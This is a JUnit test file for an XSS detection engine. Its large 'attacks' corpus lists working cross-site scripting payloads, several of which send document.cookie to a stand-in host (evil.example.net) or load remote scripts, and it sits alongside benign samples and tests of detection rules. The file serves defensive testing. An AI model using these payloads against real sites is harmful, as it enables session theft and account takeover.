package ai.traceable.tme.engine.detect.xss;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import ai.traceable.tme.engine.decode.Decoding;
import ai.traceable.tme.engine.detect.AttackClass;
import ai.traceable.tme.engine.detect.DetectionRule;
import ai.traceable.tme.engine.detect.Severity;
import ai.traceable.tme.engine.inspect.Inspected;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class XssDetectorTest {
  private static final XssDetector DETECTOR = new XssDetector();
  private static final int BLOCK_THRESHOLD = 5;

  private record Hit(DetectionRule rule, String snippet) {}

  /** Decodes {@code raw} like the engine does for a JSON or path value and inspects it. */
  private static List<Hit> inspect(String raw) {
    List<Hit> hits = new ArrayList<>();
    Inspected value = new Inspected(Placement.QUERY, "q", raw, Decoding.decode(raw, false));
    DETECTOR.inspect(value, (rule, snippet) -> hits.add(new Hit(rule, snippet)));
    return hits;
  }

  private static List<String> ids(List<Hit> hits) {
    return hits.stream().map(h -> h.rule().id()).toList();
  }

  private static int scoreAtParanoia1(List<Hit> hits) {
    return hits.stream()
        .filter(h -> h.rule().paranoia() == 1)
        .mapToInt(h -> h.rule().severity().score())
        .sum();
  }

  static Stream<String> attacks() {
    return Stream.of(
        // script elements
        "<script>alert(1)</script>",
        "\"><script>alert(document.cookie)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=//evil.example.net/x.js></script>",
        "<script/src=data:,alert(1)>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60script&#62alert(1)&#60/script&#62",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "<svg><script>alert&#40;1&#41;</script>",
        "<script>throw onerror=alert,1</script>",
        "</script><script>alert(1)</script>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>",
        // event handlers
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"#\" ONERROR=\"alert('xss')\">",
        "<img src=x onerror=alert(1)//",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg/onload=confirm`1`>",
        "<body onload=alert('XSS')>",
        "<body onpageshow=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<details/open/ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<marquee onstart=alert(1)>hi</marquee>",
        "<x onpointerover=alert(1)>hover me",
        "<a onpointerenter=alert(1)>x</a>",
        "<div style=\"animation-name:spin\" onanimationstart=\"alert(1)\"></div>",
        "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
        "<frameset onload=alert(1)>",
        "<svg><discard onbegin=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<img\nsrc=x\tonerror=alert(1)>",
        "<img%0Asrc=x%09onerror=alert(1)>",
        "<img/src/onerror=top[8680439..toString(30)](1)>",
        "<img src=x onerror=window['al'+'ert'](1)>",
        "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
        "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<svg onload=alert&lpar;1&rpar;>",
        "<a href=\"#\" onclick=\"fetch('//evil.example.net/?'+document.cookie)\">x</a>",
        "<img src=x onerror=\"javascript:alert(1)\">",
        // attribute break-outs into markup
        "\"><svg onload=alert(1)>",
        "'><img src=x onerror=alert(1)>",
        "\"><img src=x onerror=prompt(1)>",
        "%22%3E%3Csvg%20onload%3Dalert(1)%3E",
        "x\"><iframe srcdoc=\"<script>alert(1)</script>\">",
        // mutation XSS
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        // URLs with script schemes
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"java%0ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x61;script:alert(1)\">click</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<embed src=\"javascript:alert(1)\">",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<form action=\"javascript:alert(1)\"><input type=submit>",
        "<button formaction=javascript:alert(1)>go</button>",
        "<table background=\"javascript:alert(1)\">",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>Click</text></a>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert(1)\"?>",
        // page takeover elements
        "<base href=\"https://evil.example.net/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=import href=https://evil.example.net/x.html>",
        "<object type=\"text/x-scriptlet\" data=\"https://evil.example.net/x.sct\"></object>",
        // CSS
        "<div style=\"background:url(javascript:alert(1))\">",
        "<div style=\"width:expression(alert(1))\">",
        "<style>@import 'javascript:alert(1)';</style>",
        "color:red;background:url('javascript:alert(1)')",
        "<STYLE>BODY{-moz-binding:url(\"http://evil.example.net/x.xml#xss\")}</STYLE>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
            + "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028"
            + " 1\\0029'\\0029\">",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<BR SIZE=\"&{alert('XSS')}\">",
        // javascript: and data: values
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.domain)",
        "java%09script:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "javascript&#58alert(1)",
        "  javascript://%0aalert(1)",
        "javascript:fetch('//evil.example.net/'+document.cookie)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "{\"website\": \"javascript:alert(document.cookie)\"}",
        // script-context break-outs
        "\";alert(1)//",
        "'-alert(1)-'",
        "\\';alert(1);//",
        "'+alert(document.cookie)+'",
        "\");alert(String.fromCharCode(88,83,83));//",
        "\"}};alert(1);//",
        "';eval(name)//",
        "'-confirm`1`-'",
        "\";top['al'+'ert'](1)//",
        "';import('//evil.example.net/x.js')//",
        "'-setTimeout('alert(1)')-'",
        "\\\"-alert(1)}//",
        "'/**/;/**/prompt(1)//",
        "';\nnew Function('alert(1)')()//",
        "1;alert(1)",
        "-alert(1)-",
        "`;alert(1);`",
        "${alert(document.cookie)}",
        "`${prompt(1)}`",
        // handler injection into an existing tag
        "x\" onmouseover=\"alert(1)",
        "\" autofocus onfocus=\"alert(1)",
        "' onclick='alert(1)",
        "\"onmouseover=alert`1`//",
        "x onmouseover=alert(1)",
        // templates
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
            + "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
        "{{$el.ownerDocument.defaultView.alert(1)}}",
        "<input autofocus ng-focus=\"$event.view.alert(1)\">",
        "<div v-on:click=\"$event.view.prompt(1)\">x</div>",
        // more contexts
        "'}catch(e){alert(1)}//",
        "}alert(1);{//",
        "<svg><script>/<@/>alert(1)</script>",
        "<button form=test onformchange=alert(1)>",
        "'||alert(1)||'",
        "\"]);alert(1);//",
        "</textarea><script>alert(1)</script>",
        "</title><svg onload=alert(1)>",
        "--><svg onload=alert(1)>",
        "]]><script>alert(1)</script>",
        "<title><img src=\"</title><img src onerror=alert(1)>\">",
        "<img src=`x`onerror=alert(1)>",
        "<svg><script href=\"data:,alert(1)\" />",
        "<script type=\"module\">import('//evil.example.net/x.js')</script>",
        "<embed src=//evil.example.net/x.swf allowscriptaccess=always>",
        "<a href=\"javascript:document.location='https://evil.example.net/?'+document.cookie\">x</a>",
        // polyglots and encodings
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/"
            + "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",
        "PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ ",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMu"
            + "b3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\">");
  }

  static Stream<String> benign() {
    return Stream.of(
        // rich text
        "<p>Hello <b>world</b></p>",
        "<ul><li>item</li><li>other</li></ul>",
        "<a href=\"https://example.com/page?x=1\">link</a>",
        "<img src=\"https://cdn.example.com/a.png\" alt=\"photo\">",
        "<span style=\"color:red\">red</span>",
        "<br/>",
        "<table><tr><td>1</td><td>2</td></tr></table>",
        "<p>Dear customer,</p><ul><li>Free returns</li><li>24/7 support</li></ul>"
            + "<p><a href=\"https://help.example.com/returns\">Learn more</a></p>",
        "<p>Our <b>best-selling</b> trail shoe.</p><p>See the <a href=\"https://www.example.org/"
            + "size-guide\" target=\"_blank\" rel=\"noopener\">size guide</a>.</p>",
        "<table role=\"presentation\" width=\"100%\"><tr><td style=\"padding:16px;font-family:Arial\">"
            + "<img src=\"https://cdn.example.com/logo.png\" alt=\"Example\" width=\"120\">"
            + "<h1>Welcome!</h1></td></tr></table>",
        "<p>To reset, go to <code>Settings &gt; Security</code> and click <kbd>Reset</kbd>.</p>"
            + "<p>&copy; 2024 Example&nbsp;Inc.</p>",
        "%3Ch2%3EAbout+us%3C%2Fh2%3E%3Cp%3EFounded+in+%3Cem%3E1998%3C%2Fem%3E.%3C%2Fp%3E",
        "<h2>About us</h2><p>Founded in <em>1998</em> by <strong>Maria D'Angelo</strong>.</p>"
            + "<blockquote>Quality first.</blockquote>",
        "<p class=\"MsoNormal\" style=\"margin-bottom:0cm;line-height:normal\"><span lang=\"EN-GB\" "
            + "style=\"font-size:11.0pt\">Hello<o:p></o:p></span></p>",
        "<b style=\"font-weight:normal;\" id=\"docs-internal-guid-1a2b3c4d\"><span style=\"font-size:"
            + "11pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;\">"
            + "Meeting notes</span></b>",
        "<!--[if mso]><table><tr><td><![endif]--><div>Hi</div><!--[if mso]></td></tr></table>"
            + "<![endif]-->",
        "<a href=\"mailto:support@example.com?subject=Hello%20there\">Email us</a>",
        "<a href=\"tel:+14155550199\">Call</a>",
        "<a href=\"#section-2\">Jump</a> <a href=\"/relative/path\">rel</a>",
        "<a href=\"javascript:void(0)\">menu</a>",
        "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42"
            + "mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\" alt=\"dot\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\">",
        "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" "
            + "frameborder=\"0\" allowfullscreen></iframe>",
        "<video controls src=\"https://cdn.example.com/v.mp4\" poster=\"https://cdn.example.com/p.jpg\">"
            + "</video>",
        "<input type=\"checkbox\" checked disabled> <label for=\"x\">Remember me</label>",
        "<button onClick={handleClick}>Save</button>",
        "<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":"
            + "\"Organization\",\"sameAs\":[\"https://example.com\"]}</script>",
        "<script type=\"text/x-handlebars-template\" id=\"row\"><td>{{name}}</td></script>",
        "<DeleteObjects><Quiet>true</Quiet><Object><Key>logs/app.log</Key></Object></DeleteObjects>",
        "<Price><Base>USD</Base><Amount>10</Amount></Price>",
        "<button @click=\"open = !open\" ng-click=\"vm.save()\">Save</button>",
        "<div class=\"note\" data-id=\"42\" aria-label=\"Note: x < y\">text</div>",
        // text with angle brackets
        "x<5 and y>3",
        "5 < 10 > 3",
        "a <b> c",
        "<div> vs <span>",
        "I <3 this community!! <br> Thanks everyone :-)",
        "<3 <3 <3",
        "a <- b and c -> d",
        "C6H12O6 + 6O2 -> 6CO2 + 6H2O",
        "Room <B2>",
        "Fix <Header> layout on mobile",
        "The `<Header>` component overflows at < 360px width",
        "Jane Doe <jane.doe@example.com>",
        "jane.doe+shopping@gmail.com",
        "Deploy done :rocket: <https://ci.example.com/runs/881|run #881>",
        "What does <script> do in HTML?",
        "The </script> tag closes a script block",
        "P@$$w0rd!<>'\";--",
        // markup-ish documents
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5 "
            + "10-5-10-5z\" fill=\"#4f46e5\"/><title>Logo</title></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
            + "<circle cx=\"50\" cy=\"50\" r=\"40\" fill=\"url(#g)\"/><use xlink:href=\"#g\"/></svg>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order id=\"1\"><customer email=\"a@example.com\">"
            + "Jane</customer></order>",
        "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body>"
            + "<tns:GetBalance><tns:accountId>12345</tns:accountId></tns:GetBalance></soapenv:Body>"
            + "</soapenv:Envelope>",
        "<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?><report><kpi value=\"3.4%\"/></report>",
        "<Locations><Location name=\"Zurich HB\" lat=\"47.3779\" lon=\"8.5403\" online=\"true\"/>"
            + "</Locations>",
        "<description><![CDATA[<p>We moved from a <strong>single</strong> node.</p>]]></description>",
        "<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>",
        "#include <stdio.h>\nint main(void) { printf(\"%s\", buf); return 0; }",
        "<dependency><groupId>org.apache</groupId><version>2.23.1</version></dependency>",
        "<form action=\"/search\" method=\"get\"><input type=\"text\" name=\"q\" placeholder=\"Search\">"
            + "<button type=\"submit\">Go</button></form>",
        "<Files .htpasswd>\n  Require all denied\n</Files>",
        "<PatternLayout pattern=\"%d{yyyy-MM-dd HH:mm:ss} %-5level %logger{36} - %msg%n\"/>",
        // words, URLs, CSS
        "Set an alert for tomorrow",
        "The script on your homepage is slow. Alert: the popup keeps coming back!",
        "Try alert('hi') in the console to test",
        "https://developer.mozilla.org/en-US/docs/Web/JavaScript",
        "https://www.google.com/search?q=javascript+tutorial",
        "JavaScript: The Good Parts",
        "JavaScript: The Definitive Guide (7th ed.)",
        "Learn JavaScript: arrays, objects (part 1)",
        "javascript tutorial for beginners",
        "color: red;",
        "font-family: \"Helvetica Neue\", Arial; margin: 0 auto; background: url(/img/bg.png);",
        "Regular expression(s) are hard",
        "body { color: red; /* see expression() docs */ }",
        "<style>v\\:* {behavior:url(#default#VML);}</style><!--[if gte mso 9]><v:roundrect "
            + "href=\"https://example.com/offer\" arcsize=\"10%\"><![endif]-->",
        "C:\\Users\\Public\\file.txt (copy)",
        "Use \\( and \\) in regex: \\d+(\\.\\d+)?",
        "Price +ADw-nothing+AD4- here and a+ACI-b",
        "Use the onerror handler to catch failures; onload fires later.",
        "onboarding=true",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk",
        "mailto:someone@example.com",
        "urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6",
        "2024-05-01T10:15:30.123Z",
        "https://app.example.com/callback?state=af0ifjsldkj&code=SplxlOBeZQQYbYS6WxSbIA",
        // quotes, JSON, code
        "O'Brien",
        "D'Angelo",
        "It's the best pizza I've had; the owner's 'secret sauce' is amazing -- 10/10",
        "He said \"stop\"; then he left",
        "{\"name\":\"O'Brien\",\"tags\":[\"a\",\"b\"],\"n\":1,\"onload\":true,\"online\":false}",
        "{\"message\": \"TypeError: Cannot read properties of undefined (reading 'map')\"}",
        "at ProductList (webpack://app/src/components/ProductList.tsx:42:18)",
        "In Excel use =IF(A1>0; \"yes\"; \"no\") and =CONCAT(B1; \" \"; C1).",
        "if (a < b && c > d) { return \"x\"; }",
        "Pass it as an argument to `--eval`, or piped to `node` via `STDIN`",
        "if (ev === 'resume' && this[_tail]) { setTimeout(fn, 9999); }",
        "this.code = 'EBADSIZE';\n  constructor(found, expect) { return import(name); }",
        "Run all `<script>` tags together within that context (see below).",
        "const el = document.getElementById('x');\nel.innerHTML = '<b>Hello</b>';",
        "const tpl = `Hello ${user.name}, you have ${count} new messages`;\nconsole.log(tpl);",
        "{{#each items}}<tr><td>{{this.name}}</td><td>{{formatPrice this.price}}</td></tr>{{/each}}",
        "Hello {{name}}, your order #{{order.id}} ships on {{order.ship_date | date: \"%b %d\"}}.",
        "{% extends 'base.html' %}{% block content %}<h1>{{ page.title }}</h1>{{ page.body | safe }}"
            + "{% endblock %}",
        "echo \"sha=${{ github.sha }}\" >> $GITHUB_OUTPUT",
        "spring.datasource.url=${DB_URL:jdbc:postgresql://localhost:5432/app}",
        "rate(errors[5m]) > 0.05",
        "shirt color:(red|green) size:M",
        "Call me at (0161) 496-0000 or \"the office\"",
        "Tee \"Classic\" (L) - 'Best Dad' mug",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            + "Chrome/124.0.0.0 Safari/537.36",
        "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"",
        "session_id=8f14e45fceea167a5a36dedd4bea2545; _ga=GA1.1.1843920571.1714567890",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36",
        "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPg==",
        "SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBwbGFpbiB0ZXh0IG1lc3NhZ2U=",
        "I would like to order three more units please",
        "Please call me back tomorrow morning",
        "It's 5 o'clock; let's go",
        "x = y ? 'a' : 'b';",
        "'); DROP TABLE students;--",
        "<p>Price &lt; 10 &amp; qty &gt; 2</p>",
        "<img alt=\"on load\" src=\"/a.png\">",
        "window.location.href and document.cookie are explained in chapter 3");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void attackIsBlockedAtParanoia1(String attack) {
    List<Hit> hits = inspect(attack);
    assertThat(scoreAtParanoia1(hits)).as("%s -> %s", attack, hits).isGreaterThanOrEqualTo(5);
  }

  @ParameterizedTest
  @MethodSource("benign")
  void benignValueHasNoParanoia1Hit(String value) {
    List<Hit> hits = inspect(value);
    assertThat(hits.stream().filter(h -> h.rule().paranoia() == 1).toList())
        .as("%s -> %s", value, hits)
        .isEmpty();
  }

  @Test
  void corpusSizes() {
    assertThat(attacks().count()).isGreaterThanOrEqualTo(80);
    assertThat(benign().count()).isGreaterThanOrEqualTo(80);
    assertThat(attacks().distinct().count()).isEqualTo(attacks().count());
    assertThat(benign().distinct().count()).isEqualTo(benign().count());
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "<script>alert(1)</script>                         | xss-100",
        "<script>                                          | xss-101",
        "<img src=x onerror=alert(1)>                      | xss-110",
        "x\" onmouseover=\"alert(1)                         | xss-111",
        "Click here onclick=doSomething()                  | xss-112",
        "<b onset=\"2024\">                                 | xss-113",
        "<a href=\"javascript:alert(1)\">                   | xss-120",
        "javascript:alert(1)                               | xss-130",
        "data:text/html,<b>hi</b>                          | xss-131",
        "type javascript:alert(1) in the address bar       | xss-132",
        "<embed src=https://cdn.example.net/movie.swf>     | xss-140",
        "<base href=//evil.example.net/>                   | xss-141",
        "<template><p>x</p></template>                     | xss-142",
        "<iframe src=https://www.youtube.com/embed/x>      | xss-143",
        "';alert(1)//                                      | xss-150",
        "';fetch('//evil.example.net')//                   | xss-151",
        "alert(1)                                          | xss-152",
        "{{ $eval('1') }}                                  | xss-160",
        "{{constructor.constructor('alert(1)')()}}         | xss-161",
        "-moz-binding:url(//evil.example.net/x.xml#x)      | xss-170",
        "<div style=\"-moz-binding:url(//evil.example.net/x.xml#x)\"> | xss-171",
        "<div style=\"width:expression(alert(1))\">      | xss-171",
        "<div style=\"background:url(javascript:alert(1))\"> | xss-130",
      })
  void ruleThatMatches(String value, String id) {
    assertThat(ids(inspect(value.strip()))).as(value).contains(id);
  }

  @Test
  void weakerSignalsAloneStayBelowTheBlockingScore() {
    for (String v :
        List.of(
            "<td style=\"width:expression(document.body.clientWidth > 600 ? '600px' : 'auto')\">",
            "behavior: url(x.htc) is an old IE thing",
            "<embed src=https://cdn.example.net/movie.swf>",
            "';fetch('/api/ping')//",
            "{{ $eval('total') }}",
            "Click the button onclick=doSomething()")) {
      List<Hit> hits = inspect(v);
      assertThat(hits).as(v).isNotEmpty();
      assertThat(scoreAtParanoia1(hits)).as("%s -> %s", v, hits).isLessThan(BLOCK_THRESHOLD);
    }
  }

  @Test
  void nameTablesAreLoaded() {
    assertThat(HtmlNames.EVENT_HANDLERS)
        .hasSizeGreaterThan(150)
        .contains("onerror", "onload", "onmouseover", "ontoggle", "onbegin", "onpointerenter")
        .allMatch(n -> n.matches("on[a-z]{3,}"));
    assertThat(HtmlNames.URL_ATTRIBUTES).contains("href", "src", "xlink:href", "formaction");
    assertThat(HtmlNames.isFrameworkBinding("ng-click")).isTrue();
    assertThat(HtmlNames.isFrameworkBinding("(click)")).isTrue();
    assertThat(HtmlNames.isFrameworkBinding("class")).isFalse();
  }

  @Test
  void rewritesResolveCssEscapesAndUtf7() {
    assertThat(Rewrites.cssUnescaped("exp/**/ression(\\61 lert(1))"))
        .isEqualTo("expression(alert(1))");
    assertThat(Rewrites.cssUnescaped("a\\:b /* open")).isEqualTo("a:b ");
    assertThat(Rewrites.utf7("+ADw-script+AD4-a+-b")).isEqualTo("<script>a+b");
    assertThat(Rewrites.utf7("x + y +")).isEqualTo("x + y +");
  }

  @Test
  void everyRuleIsDeclaredOnceWithAWellFormedId() {
    List<DetectionRule> rules = DETECTOR.rules();
    Set<String> ids = new HashSet<>();
    for (DetectionRule r : rules) {
      assertThat(r.id()).matches("xss-\\d{3}");
      assertThat(ids.add(r.id())).as(r.id()).isTrue();
      assertThat(r.attackClass()).isEqualTo(AttackClass.XSS);
      assertThat(r.description()).isNotBlank().doesNotContain("\n");
      assertThat(Integer.parseInt(r.id().substring(4))).isBetween(100, 199);
    }
    assertThat(DETECTOR.attackClass()).isEqualTo(AttackClass.XSS);
    assertThat(rules).hasSizeGreaterThanOrEqualTo(8);
  }

  @Test
  void reportedRulesAreDeclaredAndSnippetsAreShort() {
    Set<DetectionRule> declared = new HashSet<>(DETECTOR.rules());
    Stream.concat(attacks(), benign())
        .flatMap(v -> inspect(v).stream())
        .forEach(
            h -> {
              assertThat(declared).contains(h.rule());
              assertThat(h.snippet().length()).isLessThanOrEqualTo(64);
            });
  }

  @Test
  void stopsAtTheFirstCriticalHitAndReportsEachRuleOnce() {
    List<Hit> hits =
        inspect("<script>alert(1)</script><img src=x onerror=alert(1)>javascript:alert(1)");
    assertThat(hits.stream().filter(h -> h.rule().severity() == Severity.CRITICAL)).hasSize(1);
    List<Hit> warnings = inspect("<script> and <script> and </script>");
    assertThat(ids(warnings)).containsExactly("xss-101");
  }

  @Test
  void snippetPointsAtTheAttack() {
    List<Hit> hits = inspect("harmless text, nothing here at all, then <svg onload=alert(1)>");
    assertThat(hits).isNotEmpty();
    assertThat(hits.get(0).snippet()).contains("onload=alert(1)");
  }

  @Test
  void valuesWithoutTriggerCharactersDoOnlyThePreCheck() {
    for (String v : List.of("hello world", "12345", "a-b_c.d/e", "Set an alert for tomorrow")) {
      List<Hit> hits = new ArrayList<>();
      long work = DETECTOR.scan(v, (r, s) -> hits.add(new Hit(r, s)));
      assertThat(work).isEqualTo(v.length());
      assertThat(hits).isEmpty();
    }
  }

  @Test
  void randomAndMutatedInputsNeverThrow() {
    Random random = new Random(20240501L);
    String alphabet = "<>/=\"'` \t\n(){}[];:.,+-!?&#%$\\aejlnorstvxyACS01\u0000\u00e9\uff1c\ud800";
    List<String> seeds = attacks().toList();
    for (int i = 0; i < 20_000; i++) {
      String input;
      if (i % 2 == 0) {
        StringBuilder b = new StringBuilder();
        int len = random.nextInt(64);
        for (int k = 0; k < len; k++) {
          b.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        input = b.toString();
      } else {
        StringBuilder b = new StringBuilder(seeds.get(random.nextInt(seeds.size())));
        int edits = 1 + random.nextInt(4);
        for (int k = 0; k < edits && b.length() > 0; k++) {
          int at = random.nextInt(b.length());
          switch (random.nextInt(4)) {
            case 0 -> b.deleteCharAt(at);
            case 1 -> b.insert(at, alphabet.charAt(random.nextInt(alphabet.length())));
            case 2 -> b.setCharAt(at, alphabet.charAt(random.nextInt(alphabet.length())));
            default -> b.setLength(at);
          }
        }
        input = b.toString();
      }
      String value = input;
      assertThatCode(() -> inspect(value)).as(value).doesNotThrowAnyException();
      assertThatCode(() -> DETECTOR.scan(value, (r, s) -> {})).as(value).doesNotThrowAnyException();
    }
  }

  @Test
  void workStaysLinearOnMegabyteInputs() {
    int n = 1 << 20;
    List<String> units =
        List.of(
            "<",
            "<a ",
            "\"",
            "'",
            "`",
            "<a b=\"",
            "</",
            "<!--",
            "{{",
            "${",
            "(",
            ":",
            "javascript:",
            "on",
            " onload=",
            " onload=\"",
            "'-",
            "';",
            "<script>",
            "<svg/",
            "=",
            "url(",
            "expression(",
            "a.",
            "{{a.b.c.d.e.f.g",
            "';a.b.c.d.e.f",
            "jav\tascript:",
            "<a href=",
            "\\",
            "/*(",
            "+ADw",
            "&{",
            "}",
            "<a title=\"<b onclick=",
            "style=\"-moz-binding:url(");
    for (String unit : units) {
      String s = unit.repeat(n / unit.length());
      long work = DETECTOR.scan(s, (r, snippet) -> {});
      assertThat(work).as(unit).isLessThanOrEqualTo(40L * s.length());
    }
  }

  @Test
  void attackAfterManyHarmlessTagsIsStillFound() {
    String s = "<b>x</b>".repeat(20_000) + "<script>alert(1)</script>";
    assertThat(ids(inspect(s))).contains("xss-100");
    String handler = "<i>".repeat(30_000) + "<img src=x onerror=alert(1)>";
    assertThat(scoreAtParanoia1(inspect(handler))).isGreaterThanOrEqualTo(BLOCK_THRESHOLD);
  }
}
